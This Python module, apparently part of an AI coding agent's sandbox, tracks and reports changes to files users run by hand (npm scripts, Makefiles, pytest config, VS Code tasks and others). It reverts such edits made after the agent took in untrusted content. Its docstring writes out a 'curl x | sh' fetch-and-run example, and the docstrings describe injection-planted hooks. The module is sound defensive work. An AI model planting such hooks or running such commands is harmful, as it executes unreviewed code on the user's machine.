"""Run-by-hand files (issue 19): files the USER runs later by hand, whose commands a session may legitimately
edit (`package.json` scripts, a Makefile, justfile, tox.ini, noxfile.py, setup.py, pyproject's build backend
and task tables, pytest's conftest.py and configuration (`addopts = -p NAME` in pytest.ini, setup.cfg,
pyproject's `[tool.pytest...]`), `.vscode/tasks.json`, `.envrc`, `.pre-commit-config.yaml`, Taskfile, Rakefile,
compose files, CMakeLists.txt) and what they pull in (byhandinc.py: make include, just import, Taskfile
includes...). Two uses:

- the session report: what the session changed in them, one line per file with the change of its runnable
  part (`scripts.test: "jest" -> "curl x | sh"`, a Makefile's changed lines), told once after the turn
  (`remember` at the session's start, `report` after each turn: a file is told again only if it changed again);
- in a tainted turn (untrusted content taken in) a change to such a file that existed is a planted hook (a new
  one only when a tool of the project already loads it: byhandnew.py): the run-later guard puts a confined command's change back (guardverdict, class "byhand", `Guard.tainted`) and hermes's own write asks
  or, in `chat -q`, is refused (runlater.path_verdict).

Stdlib only; the parsers are guardtools'."""

from __future__ import annotations

import json
import os
import sys
import threading
from collections.abc import Callable, Iterable

from hermes_agent.termsafe import one_line

Parts = dict[str, str]  # runnable part -> its text ("" key: the whole file is runnable)


def _whole(data: str) -> Parts:
    return {"": data}


def _package(data: str) -> Parts:
    doc = json.loads(data or "{}")
    scripts = doc.get("scripts") if isinstance(doc, dict) else None
    # `workspaces` names the packages whose scripts `npm -ws test` runs (byhandnew.py): part of what runs
    ws = {"workspaces": json.dumps(doc["workspaces"])} if isinstance(doc, dict) and "workspaces" in doc else {}
    if scripts is None:
        return ws
    if not isinstance(scripts, dict):
        return {"scripts": json.dumps(scripts), **ws}
    return {**{f"scripts.{k}": v if isinstance(v, str) else json.dumps(v) for k, v in scripts.items()}, **ws}


_PYPROJECT = ("build-system.", "tool.poe.", "tool.pdm.scripts.", "tool.taskipy.", "tool.hatch.build.hooks.",
              "tool.hatch.envs.", "tool.setuptools.cmdclass.", "tool.scikit-build.", "tool.maturin.",
              "tool.pytest.")  # addopts `-p NAME`: a plugin module pytest imports on the user's next run


def _pytest_ini(section: str) -> Callable[[str], Parts]:
    """pytest's section of an ini file (pytest.ini `[pytest]`, setup.cfg `[tool:pytest]`): `addopts -p NAME`."""
    def parse(data: str) -> Parts:
        from hermes_agent.terminal.sandbox.guardtools import _ini

        return {k: v for k, v in _ini(data).items() if k.startswith(section + ".")}
    return parse


def _pyproject(data: str) -> Parts:
    from hermes_agent.terminal.sandbox.guardtools import _toml

    flat = _toml(data)
    return {k: v for k, v in flat.items() if k.startswith(_PYPROJECT) and (not k.startswith("tool.hatch.envs.")
                                                                            or ".scripts" in k)}


def _tasks(data: str) -> Parts:
    from hermes_agent.terminal.sandbox.guardtools import _jsonc

    return _jsonc(data)


# file name (at a directory of the workspace, or the relative path) -> the runnable parts, and who runs it
TABLE: dict[str, tuple[Callable[[str], Parts], str]] = {
    "package.json": (_package, "npm run / yarn / pnpm"),
    "Makefile": (_whole, "make"), "makefile": (_whole, "make"), "GNUmakefile": (_whole, "make"),
    "justfile": (_whole, "just"), "Justfile": (_whole, "just"), ".justfile": (_whole, "just"),
    "tox.ini": (_whole, "tox"), "noxfile.py": (_whole, "nox"), "setup.py": (_whole, "pip install / build"),
    "conftest.py": (_whole, "pytest"), "pytest.ini": (_pytest_ini("pytest"), "pytest"),
    ".pytest.ini": (_pytest_ini("pytest"), "pytest"), "setup.cfg": (_pytest_ini("tool:pytest"), "pytest"),
    "pyproject.toml": (_pyproject, "pip install / build and task runners"),
    ".vscode/tasks.json": (_tasks, "VS Code tasks"), ".envrc": (_whole, "direnv"),
    ".pre-commit-config.yaml": (_whole, "pre-commit"), "Taskfile.yml": (_whole, "task"),
    "Taskfile.yaml": (_whole, "task"), "Rakefile": (_whole, "rake"),
    "compose.yaml": (_whole, "docker compose"), "compose.yml": (_whole, "docker compose"),
    "docker-compose.yml": (_whole, "docker compose"), "docker-compose.yaml": (_whole, "docker compose"),
    "CMakeLists.txt": (_whole, "cmake"),
    # the other names those tools discover (byhandnew.SAME_DIR), and the workspaces pnpm -r runs the scripts of
    **{n: (_whole, "task") for n in ("taskfile.yml", "taskfile.yaml", "Taskfile.dist.yml", "taskfile.dist.yml",
                                     "Taskfile.dist.yaml", "taskfile.dist.yaml")},
    **{n: (_whole, "rake") for n in ("rakefile", "Rakefile.rb", "rakefile.rb")},
    "pnpm-workspace.yaml": (_whole, "pnpm -r / --filter"),
    "build.rs": (_whole, "cargo build"),
}
GUARDED = tuple(n for n in TABLE if "/" not in n and n != ".envrc")  # the guard's own classes cover the rest
_LIMIT = 1 << 20


INCLUDED = "a file a run-by-hand file pulls in (make include, just import, Taskfile includes...)"


def who(rel: str) -> str:
    """Who runs the file `rel` (a TABLE name; anything else is a file one of them pulls in: byhandinc.py)."""
    return TABLE[rel][1] if rel in TABLE else f"make / just / task / npm / docker compose / cmake, through {INCLUDED}"


def parts(rel: str, data: bytes | None) -> Parts | None:
    """The runnable parts of `data` for the file `rel` (None: absent; {"?": ...} when it does not parse). A
    file that is not in TABLE (an included one) is runnable as a whole."""
    if data is None:
        return None
    text = data.decode("utf-8", "replace")
    try:
        return TABLE[rel][0](text) if rel in TABLE else _whole(text)
    except Exception:  # noqa: BLE001 - any parse error: every part counts as changed
        return {"?": text}


def change(rel: str, old: bytes | None, new: bytes | None) -> str:
    """The change of the runnable part, shown in one line ("" when none)."""
    before, after = parts(rel, old) or {}, parts(rel, new) or {}
    keys = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    if not keys:
        return ""
    shown = []
    for key in keys:
        a, b = before.get(key), after.get(key)
        if key in ("", "?"):
            shown.append(_line_diff(a or "", b or ""))
        elif a is None:
            shown.append(f"{key} added: {_short(b)}")
        elif b is None:
            shown.append(f"{key} removed")
        else:
            shown.append(f"{key}: {_short(a)} -> {_short(b)}")
    text = "; ".join(shown[:4]) + (f"; and {len(shown) - 4} more" if len(shown) > 4 else "")
    return text if old is not None else f"new file: {text}"


def _short(text: str | None, n: int = 80) -> str:
    text = " ".join((text or "").split())
    return json.dumps(text if len(text) <= n else text[: n - 3] + "...")


def _line_diff(a: str, b: str) -> str:
    import difflib

    lines = [d for d in difflib.unified_diff(a.splitlines(), b.splitlines(), lineterm="", n=0)
             if d[:1] in "+-" and not d.startswith(("+++", "---"))]
    shown = [f"{d[0]}{_short(d[1:], 60)}" for d in lines[:3]]
    return " ".join(shown) + (f" (+{len(lines) - 3} more lines)" if len(lines) > 3 else "") or "whitespace"


def risky(rel: str, old: bytes | None, new: bytes | None, *, included: bool = False) -> str:
    """Why a change made in a tainted turn must be put back ("" when the runnable part did not change). A new
    file stays (`npm init` after a `pip install` that fetched: the installers' own files) and is named in the
    session report: what a user runs by hand without looking is what the project already had (`npm test`).
    A file an existing one pulls in (`included`) is part of what the project already had: new counts too."""
    what = change(rel, old, new)
    if not what or new is None or (old is None and not included):
        return ""
    return f"the turn took in untrusted content, and the user runs {who(rel)} from it by hand later: {what}"


def exec_risky(old: bytes | None, new: bytes | None) -> str:
    """Why a change of an existing executable file (`./run.sh`, `bin/tool`, `scripts/deploy`) made in a tainted
    turn must be put back ("" when its bytes did not change). `old` None: too large to have been kept, nothing
    to put back. `new` None: not a plain file any more (a link or FIFO swapped in) or past what is read."""
    if old is None or old == new:
        return ""
    what = "now too large or not a plain file, so it cannot be checked" if new is None else \
        _line_diff(old.decode("utf-8", "replace"), new.decode("utf-8", "replace"))
    return f"the turn took in untrusted content, and the user runs this executable file by hand later: {what}"


def session_lines() -> list[str]:
    """`report()` when anything took a baseline in this process (nothing is imported otherwise): for the
    frontends after each turn."""
    mod = sys.modules.get(__name__)
    return mod.report() if mod is not None and _BASE else []


# -- the session report -----------------------------------------------------------------------------------

_BASE: dict[str, tuple[str, bytes | None]] = {}  # path -> (its TABLE entry, its content when the session started)
_TOLD: dict[str, bytes | None] = {}  # path -> the content last told to the user
_LOCK = threading.Lock()
_SHOWN = 8  # lines told per report


def _files(workspaces: Iterable[str]) -> list[tuple[str, str]]:
    return [(os.path.join(os.path.realpath(w), rel), rel) for w in workspaces for rel in TABLE]


def _read(path: str) -> bytes | None:
    from hermes_agent.nofollow import read_regular

    try:
        return read_regular(path, _LIMIT)
    except (OSError, ValueError):
        return None


def track(path: str, rel: str, base: bytes | None) -> None:
    """A run-by-hand file (at any depth) or a file one pulls in that the guard saw change and kept: told in
    the session report from `base` (its content when first seen; None: it is new)."""
    with _LOCK:
        _BASE.setdefault(path, (rel, base))


def remember(workspaces: Iterable[str]) -> None:
    """Note what the run-by-hand files of `workspaces` hold now (the session's start; a file already noted
    keeps its first content)."""
    with _LOCK:
        for path, rel in _files(workspaces):
            if path not in _BASE:
                _BASE[path] = (rel, _read(path))


def report() -> list[str]:
    """One line per run-by-hand file whose runnable part differs from the session's start and was not told
    in this state yet. Changes to files the project had at the session's start come first and are never
    folded (what the user runs without looking: rt13 a65); new files past the first few are counted."""
    had, new = [], []
    with _LOCK:
        for path, (rel, base) in sorted(_BASE.items()):
            now = _read(path)
            if now == _TOLD.get(path, base):
                continue
            _TOLD[path] = now
            what = change(rel, base, now)
            if what:  # the path as one line: a directory named `x\nhermes: ...` forges nothing (rt12 a35)
                (new if base is None else had).append(
                    (one_line(path), f"run-later file changed this session (you run it by hand: {who(rel)}): "
                                     f"{one_line(path)}: {one_line(what)}"))
    room = max(_SHOWN - len(had), 0)
    out = [line for _, line in had + new[:room]]
    if len(new) > room:  # a generated tree (cmake -B build): the first ones, then a count
        more = [name for name, _ in new[room:]]
        out.append(f"run-later files created this session: {len(more)} more you run by hand, "
                   f"{', '.join(more[:3])}{', ...' if len(more) > 3 else ''}")
    return out
